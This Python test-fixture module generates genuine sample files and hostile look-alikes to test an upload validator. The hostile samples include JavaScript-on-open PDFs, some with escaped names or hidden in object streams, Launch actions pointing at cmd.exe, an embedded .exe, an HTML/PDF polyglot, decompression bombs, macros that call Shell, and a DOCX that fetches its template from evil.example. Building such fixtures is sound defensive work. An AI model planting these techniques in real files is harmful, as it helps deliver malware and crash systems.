"""Small real files of every type a contributor may send, and files that only pretend to be one."""

import functools
import io
import struct
import zipfile
import zlib

from openpyxl import Workbook
from PIL import Image

WINDOWS_PROGRAM = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program"
)
HTML = b"<!doctype html><html><body><script>alert(1)</script>%PDF-1.7</body></html>"

_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
)


def zip_of(entries: dict[str, bytes], stored_first: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        if stored_first:
            archive.writestr(zipfile.ZipInfo(stored_first), entries[stored_first], zipfile.ZIP_STORED)
        for name, content in entries.items():
            if name != stored_first:
                archive.writestr(name, content)
    return buffer.getvalue()


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    return zip_of(
        {
            "[Content_Types].xml": _CONTENT_TYPES,
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document/>",
            **(extra or {}),
        }
    )


def pptx() -> bytes:
    return zip_of(
        {
            "[Content_Types].xml": _CONTENT_TYPES,
            "_rels/.rels": b"<Relationships/>",
            "ppt/presentation.xml": b"<p:presentation/>",
        }
    )


def xlsx() -> bytes:
    """A real workbook, written by openpyxl."""
    workbook = Workbook()
    workbook.active["A1"] = "Borgerinddragelse"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def opendocument(kind: str, mimetype_first: bool = True) -> bytes:
    entries = {
        "mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(),
        "content.xml": b"<office:document-content/>",
        "META-INF/manifest.xml": b"<manifest:manifest/>",
    }
    if mimetype_first:
        return zip_of(entries, stored_first="mimetype")
    entries = {"content.xml": entries["content.xml"], "mimetype": entries["mimetype"]}
    return zip_of(entries)


def image(image_format: str) -> bytes:
    """A real picture, written by Pillow."""
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (58, 54, 201)).save(buffer, format=image_format)
    return buffer.getvalue()


def plain_zip() -> bytes:
    return zip_of({"noter.txt": b"Et helt almindeligt zip-arkiv"})


# ---- PDFs built object by object, with a real cross-reference table -------------------------------

PAGE_TREE = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
]


def pdf(objects: list[bytes] | None = None, head: bytes = b"", padding: int = 0) -> bytes:
    """A well-formed PDF of the given objects (numbered from 1, object 1 the catalog).

    `head` goes right after the header line, where a polyglot hides its markup; `padding` adds a
    stream of that many bytes, for files of an exact size."""
    objects = list(objects or PAGE_TREE)
    if padding:
        objects.append(b"<< /Length %d >>\nstream\n" % padding + b"0" * padding + b"\nendstream")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + head)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_of_size(size: int) -> bytes:
    """A real PDF of exactly `size` bytes."""
    padding = size - len(pdf(padding=1)) + 1
    # The stream's /Length is written in digits: one more digit than the first guess needs.
    while len(built := pdf(padding=padding)) != size:
        padding += size - len(built)
    return built


PDF = pdf()


def pdf_with_javascript_on_opening() -> bytes:
    """The classic: the catalog's /OpenAction runs JavaScript as the file opens."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *PAGE_TREE[1:],
            b"<< /Type /Action /S /JavaScript /JS (app.alert\\('Innovatarium'\\);) >>",
        ]
    )


def pdf_with_escaped_javascript_name() -> bytes:
    """The same, with the names spelled with #-escapes, which viewers read as the same name."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>",
            *PAGE_TREE[1:],
            b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\);) >>",
        ]
    )


def pdf_with_javascript_in_an_object_stream() -> bytes:
    """JavaScript packed into a compressed object stream, found only by reading the structure:
    no byte of the file spells it out."""
    return pdf_with_packed_object(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /S /JavaScript /JS (app.alert\\(1\\);) >>",
    )


def pdf_with_packed_object(catalog: bytes, packed_object: bytes) -> bytes:
    """A PDF whose object 4 lives in a compressed object stream, with a cross-reference stream."""
    header = b"4 0 "
    packed = zlib.compress(header + packed_object)
    objects = [
        catalog,
        *PAGE_TREE[1:],
        None,  # object 4 lives in the object stream 5
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in enumerate(objects, start=1):
        if body is not None:
            offsets[number] = len(out)
            out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    # A cross-reference stream: type 1 rows point at offsets, the type 2 row into object stream 5.
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    for number in range(1, 7):
        if number == 4:
            rows.append(b"\x02" + (5).to_bytes(4, "big") + b"\x00\x00")
        elif number == 6:
            rows.append(b"\x01" + len(out).to_bytes(4, "big") + b"\x00\x00")
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
    table = b"".join(rows)
    xref = len(out)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def pdf_with_launch_action() -> bytes:
    return pdf(
        [
            *PAGE_TREE[:2],
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (cmd.exe) >> >>",
        ]
    )


def pdf_with_launch_action_named_indirectly() -> bytes:
    """An action as the document closes (/AA /WC) whose /S points at an object holding the name
    /Launch, packed in a compressed object stream."""
    return pdf_with_packed_object(
        b"<< /Type /Catalog /Pages 2 0 R /AA << /WC << /S 4 0 R /F (cmd.exe) >> >> >>", b"/Launch"
    )


def pdf_with_embedded_file() -> bytes:
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>",
            *PAGE_TREE[1:],
            b"<< /Names [(faktura.exe) 5 0 R] >>",
            b"<< /Type /Filespec /F (faktura.exe) /EF << /F 6 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ]
    )


def pdf_with_xfa_form() -> bytes:
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>",
            *PAGE_TREE[1:],
            b"<< /Length 7 >>\nstream\n<xdp:/>\nendstream",
        ]
    )


def pdf_opening_on_the_first_page() -> bytes:
    """What Word and LibreOffice write: /OpenAction as a destination, not as an action. Harmless."""
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /XYZ null null 0] >>", *PAGE_TREE[1:]])


def pdf_with_a_web_link() -> bytes:
    """A link the reader clicks: an action, but one that runs nothing by itself. Harmless."""
    return pdf(
        [
            *PAGE_TREE[:2],
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
            b"/A << /S /URI /URI (https://innovatarium.dk/) >> >>",
        ]
    )


def html_pdf_polyglot() -> bytes:
    """A real PDF that a browser sniffing its first bytes takes for a web page with a script."""
    return pdf(head=b"%<html><body><script>alert(document.domain)</script></body></html>\n")


# ---- Archives and pictures that are small on the wire and huge once opened ------------------------


@functools.cache
def docx_bomb() -> bytes:
    """A DOCX with a picture of 200 MB of zeros: 200 kilobytes that unpack to 200 MB.

    Written in chunks, so building it never holds the 200 MB in memory; built once per test
    process, when a test first asks for it (pass the function, not its result, to parametrize)."""
    unpacked_size = 200 * 1024 * 1024
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", b"<Relationships/>")
        archive.writestr("word/document.xml", b"<w:document/>")
        chunk = bytes(1024 * 1024)
        with archive.open("word/media/image1.png", "w", force_zip64=True) as member:
            for _ in range(unpacked_size // len(chunk)):
                member.write(chunk)
    return buffer.getvalue()


def docx_lying_about_its_size() -> bytes:
    """A DOCX whose directory says a member is 1 KB while it unpacks to 5 MB: a reader that trusts
    the directory is fooled; one that unpacks and checks the CRC is not."""
    honest = zip_of(
        {
            "[Content_Types].xml": _CONTENT_TYPES,
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document>" + b" " * (5 * 1024 * 1024) + b"</w:document>",
        }
    )
    real_size = (5 * 1024 * 1024 + 25).to_bytes(4, "little")
    return honest.replace(real_size, (1024).to_bytes(4, "little"))


def docx_with_external_template() -> bytes:
    """Remote template injection: Word fetches (and runs) a template from the internet on opening."""
    return docx(
        {
            "word/_rels/settings.xml.rels": (
                b'<?xml version="1.0" encoding="UTF-8"?>'
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                b'<Relationship Id="rId1" TargetMode="External" Target="https://evil.example/t.dotm" '
                b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
                b"</Relationships>"
            )
        }
    )


def docx_with_a_web_link() -> bytes:
    """A hyperlink is an external relationship too, and a harmless one."""
    return docx(
        {
            "word/_rels/document.xml.rels": (
                b'<?xml version="1.0" encoding="UTF-8"?>'
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                b'<Relationship Id="rId1" TargetMode="External" Target="https://innovatarium.dk/" '
                b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
                b"</Relationships>"
            )
        }
    )


def docx_declaring_macros() -> bytes:
    """A .docm in disguise: no vbaProject.bin under that name, but its content types say macros."""
    return zip_of(
        {
            "[Content_Types].xml": (
                b'<?xml version="1.0" encoding="UTF-8"?>'
                b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                b'<Override PartName="/word/document.xml" '
                b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            ),
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document/>",
            "word/macros.bin": b"\xd0\xcf\x11\xe0",
        }
    )


def opendocument_with_basic_macros() -> bytes:
    return zip_of(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b"<office:document-content/>",
            "Basic/Standard/Module1.xml": b"<script:module>Shell(&quot;calc&quot;)</script:module>",
        },
        stored_first="mimetype",
    )


def png_claiming(width: int, height: int) -> bytes:
    """A valid PNG header claiming width × height pixels, with almost no picture data behind it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )
